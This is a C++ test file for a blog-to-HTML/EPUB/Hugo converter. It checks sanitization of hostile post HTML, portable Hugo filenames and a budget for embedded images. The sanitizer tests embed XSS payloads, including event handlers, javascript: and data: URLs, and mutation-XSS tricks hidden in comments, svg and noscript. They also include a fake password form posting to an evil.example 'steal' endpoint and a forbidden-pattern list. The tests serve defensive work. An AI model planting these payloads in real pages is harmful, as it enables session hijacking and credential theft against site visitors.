// Hostile sites against the writers (issue 18, classes 3, 5 and 7), through the real binary: a
// post's HTML cannot take over the page or the book, Hugo output holds names every file system
// can, and embedded images have one byte budget per document. Each test builds its site in a
// TempDir with a good post beside the bad one.
#include <doctest/doctest.h>

#include <sys/resource.h>
#include <sys/wait.h>
#include <unistd.h>
#include <zip.h>

#include <algorithm>
#include <cstdio>
#include <cstdlib>
#include <cctype>
#include <filesystem>
#include <map>
#include <set>
#include <string>
#include <vector>

#include "tests/test_support.h"
#include "writers/html/html_renderer.h"
#include "writers/html/sanitize.h"
#include "writers/hugo/portable_names.h"

namespace fs = std::filesystem;
using blogconv::test::read_file;
using blogconv::test::run_blogconv;
using blogconv::test::run_shell;
using blogconv::test::TempDir;
using blogconv::test::write_file;

namespace {

std::string lower(std::string s) {
    for (char& c : s) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
    return s;
}

bool contains(const std::string& hay, const std::string& needle) { return hay.find(needle) != std::string::npos; }

// Every file of a zip (EPUB) by name.
std::map<std::string, std::string> unzip(const fs::path& path) {
    std::map<std::string, std::string> out;
    int err = 0;
    zip_t* za = zip_open(path.c_str(), ZIP_RDONLY, &err);
    REQUIRE(za != nullptr);
    const zip_int64_t n = zip_get_num_entries(za, 0);
    for (zip_int64_t i = 0; i < n; ++i) {
        zip_stat_t st;
        zip_stat_index(za, static_cast<zip_uint64_t>(i), 0, &st);
        zip_file_t* f = zip_fopen_index(za, static_cast<zip_uint64_t>(i), 0);
        std::string bytes(st.size, '\0');
        if (st.size) zip_fread(f, bytes.data(), st.size);
        zip_fclose(f);
        out[st.name] = std::move(bytes);
    }
    zip_close(za);
    return out;
}

const std::string good_post = "---\ntitle: Good\n---\nFine text.\n";

// ---- Class 5: what a post's HTML may do --------------------------------------------------------

// One post holding each way raw HTML took over the page or the book, and the ordinary HTML that
// real posts hold (which must survive).
const std::string hostile_html_post = R"POST(---
title: Hostile
---
Before.

<meta http-equiv="refresh" content="0;url=https://evil.example/moved">

<base href="https://evil.example/">

<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>Log in</button></form>

<div onclick="alert(1)" class="box">click text</div>

<svg width="10" height="10" onload="alert(2)"><circle cx="5" cy="5" r="4" onclick="alert(3)"/></svg>

<p><a href="javascript:alert(4)">js link</a> <a href="  JaVa&#x09;Script:alert(5)">js2 link</a> <a href="vbscript:msgbox(6)">vb link</a> <a href="data:text/html;base64,PHNjcmlwdD4=">data link</a></p>

<p><img src="https://example.org/x.png" onerror="alert(7)" alt="remote pic"> <a href="https://example.org/ok" title="fine" onmouseover="alert(8)">ok link</a> inline <span onfocus="alert(9)">span text</span></p>

<object data="https://evil.example/x.swf"><embed src="https://evil.example/y.swf"></object>

<iframe srcdoc="&lt;script&gt;alert(10)&lt;/script&gt;"></iframe>

<figure><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="a dot"><figcaption>The caption</figcaption></figure>

<details><summary>More please</summary>Hidden text</details>

<table><tr><td colspan="2">wide cell</td></tr></table>

<p><abbr title="HyperText Markup Language">HTML</abbr> and <kbd>Ctrl</kbd> and <mark>marked</mark>.</p>

After.
)POST";

// Everything that must not reach the page or a chapter (lower-cased text).
const std::vector<std::string> forbidden = {
    "http-equiv=\"refresh\"", "<base", "<form", "<input", "<button", "onclick", "onload", "onerror",
    "onmouseover", "onfocus", "javascript:", "script:alert", "vbscript:", "data:text/html", "<object",
    "<embed", "srcdoc", "evil.example"};

void check_no_takeover(const std::string& html, const std::string& where) {
    const std::string l = lower(html);
    for (const auto& f : forbidden) CHECK_MESSAGE(!contains(l, f), where << " holds " << f);
}

}  // namespace

TEST_CASE("class 5: the standalone page drops what a post's HTML could take it over with") {
    TempDir dir;
    write_file(dir.path / "_config.yml", "title: Test\nurl: https://example.org\n");
    write_file(dir.path / "_posts/2020-01-01-good.md", good_post);
    write_file(dir.path / "_posts/2020-01-02-hostile.md", hostile_html_post);
    const fs::path out = dir.path / "out" / "book.html";
    auto r = run_blogconv({dir.path.string(), "--to", "html", "-o", out.string()});
    CHECK(r.exit_code == 0);
    const std::string page = read_file(out);
    // The page's own CSP meta is the one http-equiv the page may hold.
    CHECK(contains(page, "base-uri 'none'"));
    CHECK(contains(page, "form-action 'none'"));
    check_no_takeover(page, "the page");
    // One warning for the post, naming what went.
    CHECK(contains(r.err, "_posts/2020-01-02-hostile.md"));
    CHECK(contains(r.err, "warning: removed from the post's HTML"));
    CHECK(contains(r.err, "<meta>"));
    CHECK(contains(r.err, "onclick="));
    // The ordinary HTML survives, and so does the good post.
    CHECK(contains(page, "Fine text."));
    for (const char* kept : {"click text", "class=\"box\"", "<figure>", "<figcaption>The caption</figcaption>",
                             "data:image/gif;base64,R0lGODlhAQABAAAAACw=", "<details><summary>More please</summary>",
                             "colspan=\"2\"", "<abbr title=\"HyperText Markup Language\">", "<kbd>Ctrl</kbd>",
                             "<mark>marked</mark>", "href=\"https://example.org/ok\"", "title=\"fine\"",
                             "js link", "span text", "<svg", "<circle", "Log in", "After."})
        CHECK_MESSAGE(contains(page, kept), "lost: " << kept);
}

TEST_CASE("class 5: no EPUB chapter holds what a post's HTML could take the book over with; epubcheck passes") {
    TempDir dir;
    write_file(dir.path / "_config.yml", "title: Test\nurl: https://example.org\n");
    write_file(dir.path / "_posts/2020-01-01-good.md", good_post);
    write_file(dir.path / "_posts/2020-01-02-hostile.md", hostile_html_post);
    const fs::path out = dir.path / "book.epub";
    auto r = run_blogconv({dir.path.string(), "--to", "epub", "-o", out.string()});
    CHECK(r.exit_code == 0);
    CHECK(contains(r.err, "warning: removed from the post's HTML"));
    const auto files = unzip(out);
    int chapters = 0;
    std::string all;
    for (const auto& [name, bytes] : files) {
        if (!name.ends_with(".xhtml")) continue;
        ++chapters;
        check_no_takeover(bytes, name);
        all += bytes;
    }
    CHECK(chapters >= 2);
    CHECK(contains(all, "Fine text."));
    for (const char* kept : {"click text", "<figure>", "The caption", "<details>", "More please", "colspan=\"2\"",
                             "<abbr title=\"HyperText Markup Language\">", "<kbd>Ctrl</kbd>", "ok link", "<svg",
                             "<circle", "After."})
        CHECK_MESSAGE(contains(all, kept), "lost: " << kept);
    if (!fs::exists("/usr/share/java/epubcheck.jar") || run_shell("command -v java").exit_code != 0) {
        if (std::getenv("CI")) FAIL("epubcheck (or java) is not installed; CI must have it");
        MESSAGE("epubcheck not installed: skipping the validation");
        return;
    }
    auto check = run_shell("java -jar /usr/share/java/epubcheck.jar '" + out.string() + "' 2>&1");
    CHECK_MESSAGE(check.exit_code == 0, check.out);
    CHECK_MESSAGE(!contains(check.out, "WARNING"), check.out);
}

namespace {

// The attribute names of every start tag in `html`, as an HTML tokenizer reads them (an
// attribute name ends at white space, `/`, `>` or `=`; quoted and unquoted values are skipped;
// comments are skipped as a browser ends them), lower-cased. Independent of the sanitizer's own scanner.
std::vector<std::string> attribute_names(const std::string& html) {
    std::vector<std::string> names;
    auto space = [](char c) { return c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '\f'; };
    std::size_t i = 0;
    while ((i = html.find('<', i)) != std::string::npos) {
        if (html.compare(i, 4, "<!--") == 0) {
            // A browser ends `<!-->` and `<!--->` right there.
            if (html.compare(i, 5, "<!-->") == 0 || html.compare(i, 6, "<!--->") == 0) {
                i += html[i + 4] == '>' ? 5 : 6;
                continue;
            }
            const auto e = html.find("-->", i + 4);
            i = e == std::string::npos ? html.size() : e + 3;
            continue;
        }
        ++i;
        if (i >= html.size() || !std::isalpha(static_cast<unsigned char>(html[i]))) continue;
        while (i < html.size() && !space(html[i]) && html[i] != '/' && html[i] != '>') ++i;
        while (i < html.size() && html[i] != '>') {
            if (space(html[i]) || html[i] == '/') {
                ++i;
                continue;
            }
            std::string name;
            // The first character may be `=` (it starts a name then).
            do name += static_cast<char>(std::tolower(static_cast<unsigned char>(html[i++])));
            while (i < html.size() && !space(html[i]) && html[i] != '/' && html[i] != '>' && html[i] != '=');
            names.push_back(name);
            while (i < html.size() && space(html[i])) ++i;
            if (i < html.size() && html[i] == '=') {
                ++i;
                while (i < html.size() && space(html[i])) ++i;
                if (i < html.size() && (html[i] == '"' || html[i] == '\'')) {
                    const auto e = html.find(html[i], i + 1);
                    i = e == std::string::npos ? html.size() : e + 1;
                } else {
                    while (i < html.size() && !space(html[i]) && html[i] != '>') ++i;
                }
            }
        }
    }
    return names;
}

}  // namespace

TEST_CASE("class 5: the sanitizer's URL rules see what a browser sees") {
    using blogconv::writers::html::url_allowed;
    struct Case {
        const char* element;
        const char* attribute;
        const char* url;
        bool allowed;
    };
    const Case cases[] = {
        {"a", "href", "https://example.org/x", true},
        {"a", "href", "/2020/01/01/x.html#top", true},
        {"a", "href", "../x?y=a:b", true},
        {"a", "href", "mailto:ada@example.org", true},
        {"a", "href", "a b:c", true},  // a relative path to a browser
        {"a", "href", "javascript:alert(1)", false},
        {"a", "href", " \x01JaVaScRiPt:alert(1)", false},
        {"a", "href", "java\tscript:alert(1)", false},
        {"a", "href", "java&#x09;script:alert(1)", false},
        {"a", "href", "java&#9script:alert(1)", false},
        {"a", "href", "javascript&colon;alert(1)", false},
        {"a", "href", "&#106;avascript:alert(1)", false},
        {"a", "href", "java&Tab;script:alert(1)", false},
        {"a", "href", "jav&unknown;ascript:alert(1)", false},
        {"a", "href", "vbscript:msgbox(1)", false},
        {"a", "href", "data:text/html,<script>alert(1)</script>", false},
        {"a", "href", "data:image/png;base64,AAAA", false},
        {"img", "src", "data:image/png;base64,AAAA", true},
        {"img", "src", "data:text/html;base64,AAAA", false},
        {"source", "srcset", "data:image/webp;base64,AAAA", true},
        {"iframe", "src", "data:image/svg+xml,<svg/>", false},
        {"use", "href", "javascript:alert(1)", false},
    };
    for (const auto& c : cases) {
        CAPTURE(c.url);
        CHECK(url_allowed(c.element, c.attribute, c.url) == c.allowed);
    }
}

TEST_CASE("class 5: raw HTML whose end a browser finds elsewhere cannot smuggle a tag past the sanitizer") {
    using namespace blogconv;
    auto render = [](const std::string& raw) {
        ir::Blocks blocks{ir::Block(ir::RawBlock{"html", raw})};
        writers::HtmlOptions o;
        return writers::render_html(blocks, o);
    };
    // A comment a browser ends at `<!-->`; content of <style>/<title> that is markup inside <svg>
    // and text outside it; a <noscript> whose content is text to a parser with scripting on.
    for (const std::string raw : {"<!--> <img src=x onerror=alert(1)> -->",
                                  "<svg><style><img src=x onerror=alert(1)></style></svg>",
                                  "<svg><title><img src=x onerror=alert(1)></title></svg>",
                                  "<style><a title=\"</style><img src=x onerror=alert(1)>\"></style>",
                                  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
                                  "<a href=x b/onclick=alert(1)>t</a>", "<a onclick = alert(1)>t</a>",
                                  "<img/src=x/onerror=alert(1)>", "<IMG SRC=x ONERROR=alert(1)>"}) {
        CAPTURE(raw);
        const std::string out = render(raw);
        CAPTURE(out);
        for (const auto& name : attribute_names(out)) CHECK_MESSAGE(!name.starts_with("on"), name);
    }
}

// ---- Class 7: Hugo output every file system can hold ------------------------------------------

namespace {

// Whether a relative path's every component can exist on Windows and macOS.
bool portable(const std::string& rel) {
    std::size_t start = 0;
    while (start <= rel.size()) {
        std::size_t slash = rel.find('/', start);
        if (slash == std::string::npos) slash = rel.size();
        const std::string c = rel.substr(start, slash - start);
        if (c.empty() || c.back() == '.' || c.back() == ' ' || c.size() > 255) return false;
        for (unsigned char ch : c)
            if (ch < 0x20 || std::string("<>:\"\\|?*").find(static_cast<char>(ch)) != std::string::npos) return false;
        std::string stem = lower(c.substr(0, c.find('.')));
        for (const char* dev : {"con", "prn", "aux", "nul", "com1", "com9", "lpt1", "lpt9"})
            if (stem == dev) return false;
        start = slash + 1;
    }
    return true;
}

std::string front_matter_value(const std::string& file, const std::string& key) {
    const std::string at = "\n" + key + " = ";
    auto p = file.find(at);
    if (p == std::string::npos) return "";
    p += at.size();
    return file.substr(p, file.find('\n', p) - p);
}

}  // namespace

TEST_CASE("class 7: portable_component") {
    using blogconv::writers::hugo::portable_component;
    CHECK(portable_component("plain-name_1.2") == "plain-name_1.2");
    CHECK(portable_component("a:b?c*d|e<f>g\"h\\i") == "a-b-c-d-e-f-g-h-i");
    CHECK(portable_component("tab\there\x01") == "tab-here-");
    CHECK(portable_component("trailing. . ") == "trailing");
    CHECK(portable_component("...") == "_");
    CHECK(portable_component("") == "_");
    CHECK(portable_component("CON") == "CON-");
    CHECK(portable_component("nul.tar") == "nul-.tar");
    CHECK(portable_component("Com7") == "Com7-");
    CHECK(portable_component("lpt\xc2\xb9") == "lpt\xc2\xb9-");
    CHECK(portable_component("console") == "console");
    CHECK(portable_component("com10") == "com10");
    const std::string long_name = std::string(199, 'a') + "\xc3\xa9" + "tail";  // é across byte 200
    CHECK(portable_component(long_name) == std::string(199, 'a'));
}

TEST_CASE("class 7: Hugo file names are portable and distinct ignoring case; URLs stay; MIGRATION.md lists them") {
    TempDir dir;
    const fs::path site = dir.path / "site";
    write_file(site / "_config.yml", "title: Test\nurl: https://example.org\n");
    write_file(site / "_posts/2020-01-01-good.md", good_post);
    // Names a Linux file system holds and macOS or Windows do not.
    const std::vector<std::string> posts = {"Same", "same", "a:b", "what?", "con", "star*", "pipe|x", "lt<gt>",
                                            "quo\"te", "back\\slash", "Com1", "dot."};
    for (std::size_t i = 0; i < posts.size(); ++i) {
        char date[40];
        std::snprintf(date, sizeof date, "2020-02-%02zu-", i + 1);
        write_file(site / "_posts" / (date + posts[i] + ".md"), "---\ntitle: Post " + std::to_string(i) + "\n---\nBody " +
                                                                   std::to_string(i) + ".\n");
    }
    for (const std::string page : {"CON", "Notes", "notes", "x|y", "trail "})
        write_file(site / (page + ".md"), "---\ntitle: Page " + page + "\n---\nPage text.\n");
    const fs::path out = dir.path / "hugo";
    auto r = run_blogconv({site.string(), "--to", "hugo", "-o", out.string()});
    CHECK(r.exit_code == 0);
    INFO(r.err);

    std::set<std::string> folded;
    int documents = 0;
    for (const auto& e : fs::recursive_directory_iterator(out)) {
        const std::string rel = fs::relative(e.path(), out).generic_string();
        CHECK_MESSAGE(portable(rel), "not portable: " << rel);
        CHECK_MESSAGE(folded.insert(lower(rel)).second, "differs from another only in case: " << rel);
        if (rel.starts_with("content/") && rel.ends_with(".md")) ++documents;
    }
    CHECK(documents == static_cast<int>(posts.size()) + 1 + 5);

    // Every URL the Jekyll site had is still the one Hugo gets: from the permalink pattern and the
    // unchanged slug, or from an explicit url.
    const std::string report = read_file(out / "MIGRATION.md");
    CHECK(contains(report, "Files renamed for macOS and Windows"));
    for (const std::string n : {"a:b", "what?", "con", "star*", "pipe|x", "lt<gt>", "Com1"})
        CHECK_MESSAGE(contains(report, n), "MIGRATION.md does not list " << n);
    std::map<std::string, std::string> slug_of, url_of;
    for (const auto& e : fs::recursive_directory_iterator(out / "content")) {
        if (!e.is_regular_file()) continue;
        const std::string text = read_file(e.path());
        const std::string title = front_matter_value(text, "title");
        slug_of[title] = front_matter_value(text, "slug");
        url_of[title] = front_matter_value(text, "url");
    }
    const std::string permalinks = read_file(out / "hugo.toml");
    CHECK(contains(permalinks, ":slug"));
    for (std::size_t i = 0; i < posts.size(); ++i) {
        const std::string title = "\"Post " + std::to_string(i) + "\"";
        CAPTURE(title);
        std::string want = posts[i];
        if (want == "dot.") want = "dot";  // Jekyll's own slug
        // The slug, which the permalink pattern turns into the Jekyll URL, is the original name.
        const std::string slug = slug_of[title];
        const std::string url = url_of[title];
        CHECK((contains(slug, want.substr(0, 3)) || contains(url, want.substr(0, 3))));
    }
    CHECK(url_of["\"Page CON\""] == "\"/CON.html\"");
    CHECK(url_of["\"Page notes\""] == "\"/notes.html\"");
    CHECK(url_of["\"Page x|y\""] == "\"/x|y.html\"");

    if (std::system("command -v hugo >/dev/null 2>&1") != 0) {
        if (std::getenv("CI")) FAIL("hugo is not installed; CI must have it (apt-get install hugo)");
        MESSAGE("hugo not installed: skipping the build check");
        return;
    }
    auto built = run_shell("cd '" + out.string() + "' && HTTP_PROXY=http://127.0.0.1:9 HTTPS_PROXY=http://127.0.0.1:9 "
                           "hugo --themesDir '" + (blogconv::test::source_dir() / "tests").string() +
                           "' --theme hugo-theme 2>&1");
    INFO(built.out);
    CHECK(built.exit_code == 0);
    CHECK_FALSE(contains(built.out, "ERROR"));
    for (const char* page : {"public/2020/02/01/Same.html", "public/2020/02/02/same.html", "public/CON.html",
                             "public/Notes.html", "public/notes.html", "public/2020/01/01/good.html"})
        CHECK_MESSAGE(fs::exists(out / page), "missing " << page);
}

// ---- Class 3: one budget for the images embedded into a page or a book ---------------------------

namespace {

using blogconv::test::Measured;
using blogconv::test::one_gib_kib;

using blogconv::test::run_measured;

// A site whose one post shows `n` distinct PNG files of `size` bytes each (a PNG signature, then
// a hole: sparse files, so the test writes almost nothing), beside the good post.
fs::path image_site(const fs::path& root, int n, std::uint64_t size) {
    write_file(root / "_config.yml", "title: Test\nurl: https://example.org\n");
    write_file(root / "_posts/2020-01-01-good.md", good_post);
    std::string body = "---\ntitle: Album\n---\n";
    for (int i = 0; i < n; ++i) {
        const fs::path img = root / "assets" / ("p" + std::to_string(i) + ".png");
        write_file(img, std::string("\x89PNG\r\n\x1a\n\0\0\0\rIHDR", 16));
        fs::resize_file(img, size);
        body += "![picture " + std::to_string(i) + "](/assets/p" + std::to_string(i) + ".png)\n\n";
    }
    write_file(root / "_posts/2020-01-02-album.md", body);
    return root;
}

int count(const std::string& hay, const std::string& needle) {
    int n = 0;
    for (auto p = hay.find(needle); p != std::string::npos; p = hay.find(needle, p + needle.size())) ++n;
    return n;
}

}  // namespace

TEST_CASE("class 3: images past --max-embedded-bytes are shown as their alt text; the page stays under 1 GiB") {
    TempDir dir;
    // 12 images of 40 MiB, each under the file size cap: 480 MiB, past the default 192 MiB.
    const fs::path site = image_site(dir.path / "site", 12, 40ull << 20);
    const fs::path out = dir.path / "page.html";
    Measured m = run_measured({site.string(), "--to", "html", "-o", out.string()});
    INFO(m.err);
    CHECK(m.exit_code == 0);
    CHECK(m.peak_kib > 0);
    CHECK_MESSAGE(m.peak_kib < one_gib_kib, "peak " << m.peak_kib << " KiB");
    // One diagnostic for the page, naming the flag.
    CHECK(count(m.err, "--max-embedded-bytes") == 1);
    CHECK(contains(m.err, "8 images were not embedded"));
    {
        const std::string page = read_file(out);
        CHECK(count(page, "src=\"data:image/png;base64,") == 4);
        CHECK(contains(page, "picture 11"));  // past the budget: its alt text
        CHECK(contains(page, "Fine text."));
    }

    // A split folder: the sink joins each page's parts, one more copy.
    Measured split = run_measured({site.string(), "--to", "html-split", "-o", (dir.path / "split").string()});
    CHECK(split.exit_code == 0);
    CHECK_MESSAGE(split.peak_kib < one_gib_kib, "peak " << split.peak_kib << " KiB");
    CHECK(contains(split.err, "8 images were not embedded"));

    // The flag sets the budget: one image fits in 50 MiB.
    Measured small = run_measured({site.string(), "--to", "html", "-o", out.string(), "--force",
                                   "--max-embedded-bytes", std::to_string(50ull << 20)});
    CHECK(small.exit_code == 0);
    CHECK(contains(small.err, "11 images were not embedded"));
    CHECK(count(read_file(out), "src=\"data:image/png;base64,") == 1);
}

TEST_CASE("class 3: an EPUB embeds images up to --max-embedded-bytes and stays under 1 GiB") {
    TempDir dir;
    const fs::path site = image_site(dir.path / "site", 12, 40ull << 20);
    const fs::path out = dir.path / "book.epub";
    Measured m = run_measured({site.string(), "--to", "epub", "-o", out.string()});
    INFO(m.err);
    CHECK(m.exit_code == 0);
    CHECK(m.peak_kib > 0);
    CHECK_MESSAGE(m.peak_kib < one_gib_kib, "peak " << m.peak_kib << " KiB");
    CHECK(count(m.err, "--max-embedded-bytes") == 1);
    CHECK(contains(m.err, "8 images were not embedded"));
    const auto files = unzip(out);
    int images = 0;
    std::string chapters;
    for (const auto& [name, bytes] : files) {
        if (name.starts_with("EPUB/images/")) ++images;
        if (name.ends_with(".xhtml")) chapters += bytes;
    }
    CHECK(images == 4);
    CHECK(contains(chapters, "picture 11"));
    CHECK(contains(chapters, "Fine text."));
}
